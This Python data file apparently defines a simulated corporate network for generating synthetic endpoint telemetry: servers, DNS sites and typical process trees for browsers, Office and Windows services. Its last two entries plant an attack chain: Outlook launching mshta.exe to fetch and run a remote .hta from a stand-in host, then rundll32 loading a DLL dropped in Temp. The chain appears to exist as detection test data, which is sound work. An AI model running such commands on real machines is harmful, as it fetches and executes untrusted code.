"""What the generated fleet runs and talks to: software with its usual parents, command lines
and destinations, the sites it resolves, and the organization's own servers."""

from __future__ import annotations

DOMAIN = "corp.example.com"
DC = ("10.10.0.10", "dc01." + DOMAIN)
FILE_SERVERS = [("10.10.0.21", "fs01." + DOMAIN), ("10.10.0.22", "fs02." + DOMAIN)]

# name -> (addresses its answers come from, CNAME it resolves through or None)
SITES: dict[str, tuple[str, str | None]] = {
    "outlook.office365.com": ("52.96.{}.{}", "outlook.ms-acdc.office.com"),
    "login.microsoftonline.com": ("20.190.{}.{}", "login.mso.msidentity.com"),
    "teams.microsoft.com": ("52.113.{}.{}", "teams-office-com.s-0005.dc-msedge.net"),
    "corp-my.sharepoint.com": ("13.107.{}.{}", "dual-spo-0005.spo-msedge.net"),
    "www.google.com": ("142.250.{}.{}", None),
    "fonts.gstatic.com": ("142.251.{}.{}", None),
    "cdn.jsdelivr.net": ("151.101.{}.{}", None),
    "github.com": ("140.82.{}.{}", None),
    "update.googleapis.com": ("172.217.{}.{}", None),
    "settings-win.data.microsoft.com": (
        "20.42.{}.{}",
        "atm-settingsfe-prod-geo.trafficmanager.net",
    ),
    "ctldl.windowsupdate.com": ("93.184.{}.{}", "wu-bg-shim.trafficmanager.net"),
    "docs-viewer-secure.example.net": ("185.225.{}.{}", None),  # seen from script hosts only
}

# image, parent image, command line, user kind, where it connects (site names, or "dc"/"smb")
SOFTWARE: list[tuple[str, str, str, str, list[str], int]] = [
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
        "--lang=en-US --renderer-client-id={n} --launch-time-ticks={t}",
        "user",
        ["www.google.com", "fonts.gstatic.com", "cdn.jsdelivr.net", "github.com"],
        30,
    ),
    (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" '
        "--profile-directory=Default",
        "user",
        ["login.microsoftonline.com", "www.google.com", "corp-my.sharepoint.com"],
        15,
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
        "user",
        ["outlook.office365.com", "login.microsoftonline.com"],
        10,
    ),
    (
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" '
        "--type=utility --utility-sub-type=network.mojom.NetworkService",
        "user",
        ["teams.microsoft.com", "login.microsoftonline.com"],
        10,
    ),
    (
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
        "user",
        ["corp-my.sharepoint.com", "login.microsoftonline.com"],
        6,
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
        '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\'
        'Q{n}\\Invoice_{n}.docx" /o ""',
        "user",
        ["corp-my.sharepoint.com", "smb"],
        6,
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
        "system",
        ["ctldl.windowsupdate.com", "settings-win.data.microsoft.com", "dc"],
        12,
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\cmd.exe",
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "\\\\fs01\\scripts\\logon.ps1"',
        "user",
        ["dc", "smb"],
        4,
    ),
    (
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\explorer.exe",
        'C:\\Windows\\system32\\cmd.exe /c "net use S: \\\\fs02\\share /persistent:no"',
        "user",
        ["smb"],
        3,
    ),
    (
        "C:\\Windows\\System32\\mshta.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "mshta.exe https://docs-viewer-secure.example.net/view/{n}.hta",
        "user",
        ["docs-viewer-secure.example.net"],
        1,
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\mshta.exe",
        'rundll32.exe "C:\\Users\\{user}\\AppData\\Local\\Temp\\{n}.dll",DllRegisterServer',
        "user",
        ["docs-viewer-secure.example.net"],
        1,
    ),
]
FIRST_NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
